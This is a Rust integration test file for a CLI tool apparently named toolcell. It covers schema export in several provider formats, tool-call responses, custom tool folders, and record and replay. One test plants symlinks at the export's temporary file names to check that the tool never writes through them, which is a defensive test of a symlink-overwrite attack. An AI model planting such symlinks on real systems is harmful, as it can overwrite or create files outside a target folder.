    assert!(by_name(functions, "python").get("allowed_callers").is_none(), "programs do not call `python` by default");
    assert_eq!(
        tools.as_array().unwrap()[1..],
        [json!({"type": "tool_search"}), json!({"type": "programmatic_tool_calling"})]
    );

    let derived = json_of(&["list", "--format", "openai-responses-strict", "--namespace", "toolcell"]);
    assert_eq!(
        derived[0]["description"],
        "Tools: calculator, datetime, files, http_fetch, json_query, python, regex, unit_convert."
    );

    let policy = std::env::temp_dir().join(format!("toolcell-cli-code-callers-{}.toml", std::process::id()));
    std::fs::write(&policy, "[code_mode]\ntools = [\"calculator\", \"regex\"]\n").unwrap();
    let policy = policy.to_str().unwrap();
    let tools = json_of(&["--policy", policy, "list", "--format", "anthropic", "--allowed-callers"]);
    let callable: Vec<&str> = tools
        .as_array()
        .unwrap()
        .iter()
        .filter(|tool| tool.get("allowed_callers").is_some())
        .map(|tool| tool["name"].as_str().unwrap())
        .collect();
    assert_eq!(callable, ["calculator", "regex"], "exactly the policy's `[code_mode] tools`");
    assert_eq!(by_name(&tools, "regex")["allowed_callers"], json!(["direct", "code_execution_20250825"]));
    assert_eq!(
        tools.as_array().unwrap().last().unwrap(),
        &json!({"type": "code_execution_20250825", "name": "code_execution"})
    );

    let one = json_of(&[
        "--policy",
        policy,
        "schema",
        "regex",
        "--format",
        "anthropic",
        "--defer-loading",
        "--allowed-callers",
    ]);
    assert_eq!(
        (&one["defer_loading"], &one["allowed_callers"]),
        (&json!(true), &json!(["direct", "code_execution_20250825"]))
    );
    let mcp = json_of(&["schema", "calculator", "--format", "mcp", "--defer-loading"]);
    assert_eq!(mcp["_meta"], json!({"toolcell/deferLoading": true}));
}

#[test]
fn export_options_a_format_cannot_carry_are_refused_with_what_to_do() {
    let refused = |args: &[&str], said: &str| {
        toolcell().args(args).assert().code(2).stderr(predicate::str::contains(said.to_owned()));
    };
    refused(
        &["list", "--format", "openai", "--defer-loading"],
        "openai tools have no `defer_loading`: only the formats openai-responses, openai-responses-strict, anthropic",
    );
    refused(&["list", "--format", "gemini", "--allowed-callers"], "gemini tools have no `allowed_callers`");
    refused(
        &["list", "--format", "anthropic", "--namespace", "toolcell"],
        "anthropic tools have no `namespace`: only the formats openai-responses, openai-responses-strict carry it",
    );
    refused(
        &["list", "--format", "anthropic", "--defer-loading", "regx"],
        "names tool `regx`, which is not among the tools exported (did you mean `regex`?)",
    );
    refused(
        &["list", "--format", "openai-responses", "--namespace", "regex"],
        "namespace `regex` is named like one of its tools",
    );
    refused(
        &["list", "--format", "openai-responses", "--namespace", "tool box"],
        "namespace `tool box` has a name the provider does not take",
    );
    refused(
        &["list", "--format", "openai-responses", "--namespace", "toolcell", "--namespace-description", " "],
        "empty description",
    );
    refused(&["list", "--defer-loading", "all"], "--format <FORMAT>");
    refused(
        &["schema", "python", "--format", "openai-responses", "--allowed-callers"],
        "does not let programs call `python`",
    );
    refused(
        &["schema", "regex", "--format", "openai-strict", "--defer-loading"],
        "openai-strict tools have no `defer_loading`",
    );
}

#[test]
fn respond_answers_a_models_calls_in_its_shape() {
    let message = json!({"role": "assistant", "content": null, "tool_calls": [
        {"id": "call_9", "type": "function", "function": {"name": "calculator", "arguments": "{\"expression\": \"6 * 7\"}"}}
    ]});
    let output = toolcell().args(["respond", "--format", "openai"]).write_stdin(message.to_string()).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let replies: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(replies, json!([{"role": "tool", "tool_call_id": "call_9", "content": "{\"value\":42.0}"}]));

    let program_call = json!({"output": [{"type": "function_call", "call_id": "call_3", "name": "calculator",
        "namespace": "toolcell", "arguments": "{\"expression\": \"1 + 1\"}",
        "caller": {"type": "program", "caller_id": "prog_1"}}]});
    let output = toolcell()
        .args(["respond", "--format", "openai-responses"])
        .write_stdin(program_call.to_string())
        .output()
        .unwrap();
    let replies: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        replies,
        json!([{"type": "function_call_output", "call_id": "call_3", "output": "{\"value\":2.0}",
                "caller": {"type": "program", "caller_id": "prog_1"}}])
    );

    toolcell()
        .args(["respond", "--format", "anthropic"])
        .write_stdin(r#"{"role": "assistant"}"#)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "not a message with tool calls in the anthropic shape: a message has `content`",
        ));
}

/// A folder of its own for a test, empty.
fn fresh_dir(name: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("toolcell-cli-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The names `list --json` prints.
fn listed_names(output: &std::process::Output) -> Vec<String> {
    let listed: Value = serde_json::from_slice(&output.stdout).unwrap();
    listed["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn your_tools_are_served_beside_the_builtins_and_a_file_of_the_same_name_replaces_one() {
    let dir = fresh_dir("beside");
    std::fs::copy(toolcell_tests::ECHO, dir.join("echo.wasm")).unwrap();
    // A file named like a built-in one replaces it, whatever tool it holds.
    std::fs::copy(toolcell_tests::COUNTER, dir.join("regex.wasm")).unwrap();
    // The folder's policy is over the built-in tools' own (python's limits), key by key.
    std::fs::write(dir.join("toolcell.toml"), "[tools.python.limits]\ntimeout_ms = 1234\n").unwrap();

    let output = toolcell().args(["list", "--json", "--tools-dir"]).arg(&dir).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let names = listed_names(&output);
    let expected =
        ["calculator", "counter", "datetime", "echo", "files", "http_fetch", "json_query", "python", "unit_convert"];
    assert_eq!(names, expected, "the folder's two beside the seven built-ins it does not replace");
    let listed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(listed["diagnostics"], json!([]), "replacing is not a conflict");

    let schema = toolcell().args(["schema", "python", "--tools-dir"]).arg(&dir).output().unwrap();
    let shown = String::from_utf8_lossy(&schema.stdout);
    assert!(shown.contains("fuel 30,000,000,000, timeout 1.234 s, memory 128 MiB"), "{shown}");

    let called = toolcell()
        .args(["invoke", "calculator", r#"{"expression": "6 * 7"}"#, "--tools-dir"])
        .arg(&dir)
        .output()
        .unwrap();
    assert_eq!(serde_json::from_slice::<Value>(&called.stdout).unwrap()["content"], r#"{"value":42.0}"#);

    let only = toolcell().args(["list", "--json", "--no-builtins", "--tools-dir"]).arg(&dir).output().unwrap();
    assert_eq!(listed_names(&only), ["counter", "echo"], "--no-builtins: only the folder's");
    toolcell()
        .args(["list", "--no-builtins"])
        .env_remove("TOOLCELL_TOOLS_DIR")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--no-builtins leaves no tools to load"));
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Attack: a symlink planted at the name the export writes through (`.NAME.partial`),
/// pointing outside the folder, must not be written through: the file it points to stays as
/// it was, and the tool lands in the folder as a file of its own.
#[cfg(unix)]
#[test]
fn export_builtins_never_writes_through_a_planted_partial_symlink() {
    let root = fresh_dir("export-symlink");
    let dir = root.join("tools");
    std::fs::create_dir_all(&dir).unwrap();
    let outside = root.join("outside.txt");
    std::fs::write(&outside, "precious\n").unwrap();
    std::os::unix::fs::symlink(&outside, dir.join(".calculator.wasm.partial")).unwrap();
    // A dangling one, whose target the write would create.
    let created = root.join("created-by-the-export");
    std::os::unix::fs::symlink(&created, dir.join(".toolcell.toml.partial")).unwrap();
    // And a stale regular file from an export killed midway.
    std::fs::write(dir.join(".regex.wasm.partial"), "half a component").unwrap();

    let output = toolcell().arg("export-builtins").arg(&dir).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "precious\n", "the symlink's target is untouched");
    assert!(!created.exists(), "nothing was created through the dangling symlink");
    let calculator = std::fs::symlink_metadata(dir.join("calculator.wasm")).unwrap();
    assert!(calculator.is_file(), "a file of its own, not a link");
    let (_, bytes) = toolcell_tools::ALL.iter().find(|(file, _)| *file == "calculator.wasm").unwrap();
    assert_eq!(&std::fs::read(dir.join("calculator.wasm")).unwrap(), bytes);
    assert_eq!(std::fs::read_to_string(dir.join("toolcell.toml")).unwrap(), toolcell_tools::POLICY);
    let leftovers = hidden_entries(&dir);
    assert!(leftovers.is_empty(), "the planted links and the stale file are gone: {leftovers:?}");
    std::fs::remove_dir_all(&root).unwrap();
}

/// The names in `dir` that start with a dot: an export's partial files.
fn hidden_entries(dir: &std::path::Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with('.'))
        .collect()
}

/// A folder in the way of a partial file is not removed: the export says what to do.
#[test]
fn export_builtins_refuses_a_folder_at_a_partial_name() {
    let dir = fresh_dir("export-blocked").join("tools");
    std::fs::create_dir_all(dir.join(".python.wasm.partial")).unwrap();
    let output = toolcell().arg("export-builtins").arg(&dir).output().unwrap();
    assert!(!output.status.success());
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains(".python.wasm.partial is in the way and is not a file: remove it"), "{said}");
    assert!(dir.join(".python.wasm.partial").is_dir());
    std::fs::remove_dir_all(dir.parent().unwrap()).unwrap();
}

#[test]
fn export_builtins_writes_a_tools_folder_that_serves_the_same_tools() {
    let dir = fresh_dir("export").join("tools");
    let export = |force: bool| {
        let mut command = toolcell();
        command.arg("export-builtins").arg(&dir);
        if force {
            command.arg("--force");
        }
        command.output().unwrap()
    };
    let first = export(false);
    assert!(first.status.success(), "{}", String::from_utf8_lossy(&first.stderr));
    let said = String::from_utf8_lossy(&first.stdout);
    assert!(said.starts_with(&format!("wrote 9 files to {} (0 were already there", dir.display())), "{said}");
    assert!(said.contains("--no-builtins serve"), "and how to serve them: {said}");
    assert_eq!(std::fs::read_to_string(dir.join("toolcell.toml")).unwrap(), toolcell_tools::POLICY);

    let listed = toolcell().args(["list", "--json", "--no-builtins", "--tools-dir"]).arg(&dir).output().unwrap();
    let builtin = toolcell().args(["list", "--json"]).env_remove("TOOLCELL_TOOLS_DIR").output().unwrap();
    assert_eq!(listed_names(&listed), listed_names(&builtin), "the same eight tools");
    let schema = toolcell().args(["schema", "python", "--no-builtins", "--tools-dir"]).arg(&dir).output().unwrap();
    assert!(String::from_utf8_lossy(&schema.stdout).contains("timeout 10 s"), "with their policy");

    let again = export(false);
    assert!(String::from_utf8_lossy(&again.stdout).starts_with("wrote 0 files"), "nothing changed");
    // An operator's edit is kept unless they ask.
    std::fs::write(dir.join("toolcell.toml"), "# mine\n").unwrap();
    let kept = export(false);
    assert_eq!(kept.status.code(), Some(2));
    let refused = String::from_utf8_lossy(&kept.stderr);
    assert!(refused.contains("toolcell.toml that differ") && refused.contains("--force"), "{refused}");
    assert_eq!(std::fs::read_to_string(dir.join("toolcell.toml")).unwrap(), "# mine\n");
    assert!(export(true).status.success());
    assert_eq!(std::fs::read_to_string(dir.join("toolcell.toml")).unwrap(), toolcell_tools::POLICY);
    let leftovers = hidden_entries(&dir);
    assert!(leftovers.is_empty(), "no partial files: {leftovers:?}");
    std::fs::remove_dir_all(dir.parent().unwrap()).unwrap();
}

/// `invoke --record` writes a record `replay` runs again exactly; a record of another
/// component is refused with exit code 2.
#[test]
fn a_recorded_call_replays_with_the_same_result_and_fuel() {
    let dir = fresh_dir("record");
    let record = dir.join("call.json");
    let program = r#"{"code": "import time, os\n[time.time(), os.urandom(4).hex()]"}"#;
    let recorded = toolcell().args(["invoke", "python", program, "--record"]).arg(&record).output().unwrap();
    assert!(recorded.status.success(), "{}", String::from_utf8_lossy(&recorded.stderr));
    assert!(String::from_utf8_lossy(&recorded.stderr).contains("`toolcell replay"), "says how to replay it");
    let first: Value = serde_json::from_slice(&recorded.stdout).unwrap();

    let replayed = toolcell().arg("replay").arg(&record).output().unwrap();
    let said = String::from_utf8_lossy(&replayed.stderr);
    assert!(replayed.status.success(), "{said}");
    assert!(said.contains("replayed `python`: the same result, with the same fuel"), "{said}");
    let again: Value = serde_json::from_slice(&replayed.stdout).unwrap();
    assert_eq!(again["content"], first["content"], "the same clock reading and random bytes");

    let mut changed: Value = serde_json::from_str(&std::fs::read_to_string(&record).unwrap()).unwrap();
    changed["digest"] = json!("00".repeat(32));
    std::fs::write(&record, changed.to_string()).unwrap();
    let refused = toolcell().arg("replay").arg(&record).output().unwrap();
    assert_eq!(refused.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("has changed since the record was made"));
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The compiled components in a compile cache's folder (not the records beside them).
fn compiled_entries(cache: &std::path::Path) -> Vec<std::path::PathBuf> {
    let paths = std::fs::read_dir(cache).unwrap().map(|entry| entry.unwrap().path());
    paths.filter(|path| path.extension().is_some_and(|extension| extension == "cwasm")).collect()
}
